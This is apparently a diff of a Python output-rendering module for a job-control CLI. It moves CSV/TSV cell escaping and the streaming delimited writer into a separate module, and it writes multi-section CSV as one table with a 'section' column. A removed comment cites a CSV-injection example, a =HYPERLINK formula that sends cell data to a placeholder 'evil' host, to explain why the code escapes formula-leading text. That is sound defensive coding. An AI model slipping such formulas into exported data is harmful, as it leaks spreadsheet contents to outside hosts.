@@ -11,13 +11,13 @@ import dataclasses
 import datetime as dt
 import decimal
 import enum
-import io
 import re
 import uuid
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from typing import IO, Any
 
 from jobctl.contract import json_text, safe_text
+from jobctl.render import delimited
 from jobctl.render.screen import Column
 
 Row = Mapping[str, Any]  # any row shape (see rows.py) is rendered the same way
@@ -39,19 +39,34 @@ class Output(str, enum.Enum):
 
 @dataclasses.dataclass
 class Section:
-    """A titled table: ``rows`` shown with ``columns`` (all keys of the first row if None)."""
+    """A titled table: ``rows`` shown with ``columns`` (all keys of the first row if None).
+
+    ``keys``: every key JSON carries of a row, in JSON's order (``rows.*_KEYS``, the row
+    shape's declared keys): the header of ``-o csv``/``tsv``, the same with no row as with
+    many (None: ``columns``). ``name``: what the ``section`` column says of its rows when a
+    document of several sections is written as one CSV table (None: its title)."""
 
     title: str | None
     rows: Iterable[Row]  # a list, or rows streamed once (csv, json) from a server-side cursor
     columns: Sequence[str] | None = None
     view: Sequence[Column] | None = None  # its columns on a terminal (None: every column)
     note: str | None = None  # a line under it on a terminal (what a sign in it means)
+    keys: Sequence[str] | None = None
+    name: str | None = None
 
     def header(self) -> list[str]:
         if self.columns is not None:
             return list(self.columns)
         first = self.rows[0] if isinstance(self.rows, Sequence) and self.rows else None
         return list(first.keys()) if first is not None else []
+
+    def fixed_header(self) -> list[str] | None:
+        """The header of ``-o csv``/``tsv``: ``keys``, else ``columns``, whatever the rows;
+        None for a section that declares neither, one whose rows always come (a check per
+        row, a sentence per row): its first row's keys."""
+        if self.keys is not None:
+            return list(self.keys)
+        return None if self.columns is None else list(self.columns)
 
 
 @dataclasses.dataclass
@@ -169,65 +184,14 @@ UNESCAPED_MARKUP_FORMATS = frozenset(
 )
 
 
-def _flat(value: Any) -> Any:
-    """A value for CSV/TSV: ISO timestamps, plain strings, JSON for nested values."""
-    if value is None:
-        return ""
-    if isinstance(value, dict | list):
-        return to_json(value)
-    if isinstance(value, dt.datetime | dt.date | uuid.UUID | dt.timedelta | decimal.Decimal):
-        return _json_default(value)
-    return value
-
-
-def _flat_visible(value: Any) -> Any:
-    """_flat's value for a terminal: text as safe_text.visible shows it."""
-    flat = _flat(value)
-    return safe_text.visible(flat) if isinstance(flat, str) else flat
-
-
-# A CSV cell a spreadsheet would take for a formula (OWASP's "CSV injection"): text starting
-# with one of these. A worker's name such as =HYPERLINK("http://evil/?"&A1,"open") would be a
-# live link, or worse, in the file an operator opens in Excel or LibreOffice.
-FORMULA_START = frozenset("=+-@\t\r")
-# what the csv module writes itself, exactly as _flat would (None as an empty field)
-_CSV_AS_IS = frozenset({type(None), int, float, bool})
-# a row's timestamps and tokens, as _flat writes them (never the start of a formula: a digit)
-_CSV_EXACT: dict[type, Callable[[Any], str]] = {dt.datetime: dt.datetime.isoformat, uuid.UUID: str}
-
-
-def csv_text(text: str) -> str:
-    """Text from a row as a CSV cell: as it is, or, when it starts with a character a
-    spreadsheet reads as the start of a formula (``FORMULA_START``), after a single quote,
-    which spreadsheets show as text and hide (OWASP's rule). Only text: jobctl's own numbers
-    (a negative overdue) stay numbers."""
-    return "'" + text if text[:1] in FORMULA_START else text
-
-
-def csv_cells(values: Iterable[Any]) -> list[Any]:
-    """A CSV row's values as ``_flat`` makes them, text made safe by ``csv_text``; what the
-    csv module writes itself (None, numbers) passed as it is, and text that starts no formula
-    too, without a call per value (20,000 rows of 17 columns: 340,000 values)."""
-    return [
-        value
-        if (kind := value.__class__) in _CSV_AS_IS
-        or (kind is str and value[:1] not in FORMULA_START)
-        else _CSV_EXACT[kind](value)
-        if kind in _CSV_EXACT
-        else _csv_cell(value)
-        for value in values
-    ]
-
-
-def _csv_cell(value: Any) -> Any:
-    flat = _flat(value)
-    return csv_text(flat) if isinstance(flat, str) else flat
-
-
-def _csv_visible(value: Any) -> Any:
-    """A CSV cell for a terminal: safe for a spreadsheet (it may be copied) and visible."""
-    flat = _csv_cell(value)
-    return safe_text.visible(flat) if isinstance(flat, str) else flat
+# csv and tsv cells and rows (render/delimited); the names their callers have always found here
+_flat = delimited._flat
+FORMULA_START = delimited.FORMULA_START
+csv_text = delimited.csv_text
+csv_cells = delimited.csv_cells
+_csv_cell = delimited._csv_cell
+tsv_field = delimited.tsv_field
+delimited_rows = delimited.delimited_rows
 
 
 # ---------------------------------------------------------------- rendering
@@ -309,96 +273,6 @@ def json_array(stream: IO[str]) -> Iterator[Callable[[Iterable[Any]], None]]:
     put("[]\n" if first else "\n]\n")
 
 
-_TSV_ESCAPES = str.maketrans({"\\": "\\\\", "\t": "\\t", "\n": "\\n", "\r": "\\r"})
-
-
-def tsv_field(value: Any) -> str:
-    """A value as one TSV field, escaped as PostgreSQL's ``COPY ... (FORMAT text)`` writes it:
-    backslash as ``\\\\``, tab as ``\\t``, newline as ``\\n``, carriage return as ``\\r``
-    (a null is an empty field), so a field never holds the delimiter or a line end and every
-    row has the header's count of fields (``mlr --itsv``, ``awk -F'\\t'``)."""
-    return str(value).translate(_TSV_ESCAPES)
-
-
-def delimited_header(columns: Sequence[str], first: Row | None) -> list[str]:
-    """The columns of a CSV or TSV: every key JSON carries, in JSON's order (the first row's
-    keys), then any listed column that row lacks; no row: the listed columns."""
-    if first is None:
-        return list(columns)
-    keys = list(first.keys())
-    return keys + [c for c in columns if c not in first]
-
-
-@contextlib.contextmanager
-def delimited_rows(
-    stream: IO[str], columns: Sequence[str], delimiter: str
-) -> Iterator[Callable[[Iterable[Row]], None]]:
-    """CSV (or TSV) written as its rows come, a batch per write, the header first: every
-    column JSON carries (``delimited_header``, known at the first row; the listed ``columns``
-    when no row comes, as the whole-document writer does). Exact when piped; on a terminal
-    each value is shown as safe_text.visible shows it (one line, nothing obeyed). Piped, TSV
-    is escaped as COPY's text format (``tsv_field``); CSV is quoted as RFC 4180, and text that
-    a spreadsheet would run as a formula is written after a single quote (``csv_text``)."""
-    import csv
-
-    person = stream.isatty()
-    csv_file = delimiter != "\t"
-    if csv_file:
-        flat = _csv_visible if person else _csv_cell
-    else:
-        flat = _flat_visible if person else _flat
-    buffer = io.StringIO()
-    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
-    # the csv module quotes a field holding a character of its line terminator: with "\n" a
-    # lone carriage return went out unquoted, and a reader ended the row there (RFC 4180
-    # quotes both). A batch that holds one is written again row by row by a writer whose
-    # terminator has both, each row's "\r\n" made "\n" again
-    both = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
-    header: list[str] | None = None
-
-    def put(lines: Iterable[Sequence[Any]]) -> None:
-        buffer.seek(0)
-        buffer.truncate()
-        if delimiter == "\t" and person:  # visible text: no tab or line end left to escape
-            buffer.write("".join("\t".join(str(v) for v in line) + "\n" for line in lines))
-        elif delimiter == "\t":
-            buffer.write("".join("\t".join(tsv_field(v) for v in line) + "\n" for line in lines))
-        else:
-            lines = list(lines)
-            writer.writerows(lines)
-            if "\r" in buffer.getvalue():
-                stream.write("".join(_csv_line(both, buffer, line) for line in lines))
-                return
-        stream.write(buffer.getvalue())
-
-    def write(rows: Iterable[Row]) -> None:
-        nonlocal header
-        batch = list(rows)
-        if not batch:
-            return
-        if header is None:
-            header = delimited_header(columns, batch[0])
-            put([[flat(c) for c in header]])
-        names = header
-        if csv_file and not person:  # the per-row path of every CSV a script reads
-            put([csv_cells([row.get(c) for c in names]) for row in batch])
-        else:
-            put([flat(row.get(c)) for c in names] for row in batch)
-
-    yield write
-    if header is None:
-        put([[flat(c) for c in columns]])
-
-
-def _csv_line(writer: Any, buffer: io.StringIO, line: Sequence[Any]) -> str:
-    """One CSV row by ``writer`` (its terminator "\r\n": a carriage return in a field quoted),
-    ended by "\n" as every other row."""
-    buffer.seek(0)
-    buffer.truncate()
-    writer.writerow(line)
-    return buffer.getvalue()[:-2] + "\n"
-
-
 def format_tables(sections: Sequence[Section], fmt: str) -> str:
     """Sections as tabulate tables (``fmt`` is any tabulate format), titles on their own line."""
     from tabulate import tabulate
@@ -418,12 +292,24 @@ def format_tables(sections: Sequence[Section], fmt: str) -> str:
 
 
 def _write_delimited(sections: Sequence[Section], delimiter: str, stream: IO[str]) -> None:
-    for index, section in enumerate(sections):
-        if len(sections) > 1:
-            stream.write(("\n" if index else "") + f"# {section.title}\n")
-        with delimited_rows(stream, section.header(), delimiter) as write:
+    """One table a CSV reader takes whole (csvkit, ``mlr``, Python's csv): a document of
+    several sections is one table too, ``section`` first (each section's ``name``), then
+    every section's columns in the order they first come; a row is empty in the columns
+    of the other sections. The header is each section's fixed header, never the rows'."""
+    if len(sections) == 1:
+        (section,) = sections
+        with delimited_rows(stream, section.fixed_header(), delimiter) as write:
             for chunk in _chunks(section.rows, JSONL_CHUNK):  # streamed rows: flat memory
                 write(chunk)
+        return
+    columns = dict.fromkeys(["section"])
+    for section in sections:
+        columns.update(dict.fromkeys(section.fixed_header() or section.header()))
+    with delimited_rows(stream, list(columns), delimiter) as write:
+        for section in sections:
+            name = section.name or section.title
+            for chunk in _chunks(section.rows, JSONL_CHUNK):
+                write({**row, "section": name} for row in chunk)
 
 
 def _console(stream: IO[str], screen: Screen | None) -> Any:
